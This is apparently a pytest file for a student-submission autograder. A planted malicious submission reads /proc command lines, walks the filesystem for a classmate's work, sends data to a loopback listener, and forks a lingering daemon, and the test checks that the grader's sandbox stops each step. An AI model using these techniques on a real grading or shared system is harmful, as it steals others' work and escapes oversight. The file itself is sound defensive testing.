"""Classmates, the network and daemons that outlive the test, in a batch (9); a batch goes
on past a student it cannot grade."""

from __future__ import annotations

import csv
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from hostile.deployed import (
    WALL,
    processes_naming,
)
from mistaken_submissions import make_submission

pytestmark = pytest.mark.slow


# ---- 9: classmates, the network, and outliving the test -------------------------------------


class _Listener:
    """A TCP server on loopback that counts the connections it gets."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.server.close()


def test_9_classmates_network_and_daemons_in_a_batch(release, tmp_path):
    """In one batch: mallory looks for her classmate's folder (through the grader's command
    line in /proc and by walking the disk), sends her inputs to a server on this machine, and
    leaves a daemon behind; ada's work and the class's scores.csv come out untouched."""
    listener = _Listener()
    students = tmp_path / "submissions"
    make_submission(students / "ada")
    (students / "ada/raykit/ada_marker.py").write_text("# ADA-SECRET-WORK\n")
    marker = f"DAEMON-{os.getpid()}"
    code = (
        "def hit_plane(origins, directions, a, n):\n"
        "    import os, socket, subprocess, sys, glob\n"
        "    seen = []\n"
        "    for cmd in glob.glob('/proc/*/cmdline'):\n"
        "        try:\n            seen.append(open(cmd).read())\n"
        "        except OSError:\n            pass\n"
        "    for top, dirs, files in os.walk('/', onerror=lambda e: None):\n"
        "        dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev')]\n"
        "        for name in files:\n"
        "            if name == 'ada_marker.py':\n"
        "                print(open(os.path.join(top, name)).read())\n"
        "    print('PROCS', [s for s in seen if 'ada' in s])\n"
        "    try:\n"
        f"        socket.create_connection(('127.0.0.1', {listener.port}), timeout=1)"
        ".sendall(origins.tobytes())\n"
        "    except OSError as e:\n        print('NET', e)\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)',"
        f" '{marker}'])\n"
        "    import numpy\n    return numpy.zeros(len(origins))\n"
    )
    mallory = make_submission(students / "mallory")
    with open(mallory / "raykit/planes.py", "a") as module:
        module.write("\n" + code)
    out = tmp_path / "out"
    try:
        run = subprocess.run(
            [sys.executable, "-m", "raykit_grading", "batch", str(students), "-o", str(out),
             "--only", "2.1", "2.3", "--wall-seconds", str(WALL), "--jobs", "2"],
            capture_output=True, text=True, cwd=tmp_path, timeout=300,
        )  # fmt: skip
    finally:
        listener.close()
    assert run.returncode == 0, run.stderr[-2000:]
    rows = {row["student"]: row for row in csv.DictReader((out / "scores.csv").open())}
    assert {k: (rows[k]["status"], float(rows[k]["score"])) for k in rows} == {
        "ada": ("graded", 4.0),
        "mallory": ("graded", 2.0),
    }
    feedback = (out / "feedback/mallory/results.json").read_text()
    assert "ADA-SECRET-WORK" not in feedback and "PROCS []" in feedback
    assert "NET" in feedback and listener.connections == 0
    assert processes_naming(marker) == []


def test_batch_goes_on_past_a_student_it_cannot_grade_and_resumes(release, tmp_path):
    students = tmp_path / "submissions"
    make_submission(students / "ada")
    make_submission(students / os.fsdecode(b"b\xf8rge"))  # a name that is not UTF-8
    (students / "empty").mkdir()  # no raykit/ at all
    out = tmp_path / "out"
    command = [sys.executable, "-m", "raykit_grading", "batch", str(students), "-o", str(out),
               "--only", "2.1"]  # fmt: skip
    first = subprocess.run(command, capture_output=True, text=True, cwd=tmp_path, timeout=300)
    assert first.returncode == 1
    assert "empty: could not grade: no raykit package" in first.stderr
    rows = _rows(out / "scores.csv")
    assert rows["ada"]["status"] == "graded" and float(rows["ada"]["score"]) == 2
    assert rows[os.fsdecode(b"b\xf8rge")]["status"] == "graded"
    make_submission(students / "bob")
    again = subprocess.run(command, capture_output=True, text=True, cwd=tmp_path, timeout=300)
    assert "4 submissions: 3 graded, 1 not graded" in again.stdout and again.returncode == 1
    rows = _rows(out / "scores.csv")
    assert rows["bob"]["status"] == "graded"


def _rows(path: Path) -> dict[str, dict]:
    with open(path, newline="", encoding="utf-8", errors="surrogateescape") as stream:
        return {row["student"]: row for row in csv.DictReader(stream)}
